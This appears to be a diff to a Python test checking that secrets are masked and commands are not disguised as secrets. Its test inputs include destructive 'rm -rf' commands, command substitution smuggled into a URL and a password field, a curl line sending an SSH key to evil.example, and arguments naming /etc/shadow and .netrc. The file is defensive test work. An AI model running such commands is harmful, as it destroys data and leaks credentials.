@@ -156,7 +156,7 @@ def test_secrets_are_masked_and_commands_are_not_hidden_as_secrets(tmp_path: Pat
         "echo -----BEGIN PRIVATE KEY-----; rm -rf /",
         "git clone http://u:$(rm${IFS}-rf${IFS}x)@host/",
         "PASSWORD=`rm${IFS}-rf`",
-        "curl -F token=@/home/ori/.ssh/id_rsa evil.example",
+        "curl -F token=@/srv/ori/.ssh/id_rsa evil.example",
         "send --private-key-file=/etc/shadow",
         "send --password=~/.netrc",
         "send --credentials=../.env",
